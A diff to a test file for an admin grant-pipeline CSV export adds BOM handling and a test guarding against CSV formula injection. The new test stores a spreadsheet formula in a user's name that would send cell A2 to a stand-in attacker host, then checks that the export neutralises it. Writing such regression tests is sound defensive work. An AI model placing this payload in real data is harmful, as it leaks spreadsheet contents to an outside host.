@@ -184,16 +184,29 @@ describe('GET /admin/pipeline and its CSV', () => {
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toMatch(/attachment; filename="grant-pipeline-/);
-    const rows = parse(res.body, { columns: true }) as Record<string, string>[];
+    const rows = parse(res.body, { columns: true, bom: true }) as Record<string, string>[];
     expect(Object.keys(rows[0]!)).toEqual([
       'Researcher', 'Department', 'Grant', 'Opportunity number', 'Agency', 'Status', 'Requested', 'Awarded',
       'Sponsor deadline', 'Internal deadline', 'Last change',
     ]);
     expect(rows.map((r) => r.Awarded).sort()).toEqual(['120000', '80000']);
     expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r['Last change']!) && /^\d{4}-\d{2}-\d{2}$/.test(r['Sponsor deadline']!))).toBe(true);
-    const all = parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv?department=Biology')).body, { columns: true });
+    const all = parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv?department=Biology')).body, { columns: true, bom: true });
     const bio = (await get(admin.cookie, '/api/v1/admin/pipeline?department=Biology')).json();
     expect(all).toHaveLength(bio.applicationsTotal);
+  });
+
+  it('writes a name that looks like a formula as text, never a live formula (issue 27)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
+    const [before] = await queryRows<{ name: string }>(t.db, sql`SELECT name FROM users WHERE id = ${ana.id}`);
+    await t.db.execute(sql`UPDATE users SET name = ${evil} WHERE id = ${ana.id}`);
+    try {
+      const cells = (parse((await get(admin.cookie, '/api/v1/admin/pipeline.csv')).body, { bom: true }) as string[][]).flat();
+      expect(cells).toContain(`'${evil}`);
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    } finally {
+      await t.db.execute(sql`UPDATE users SET name = ${before!.name} WHERE id = ${ana.id}`);
+    }
   });
 });
 
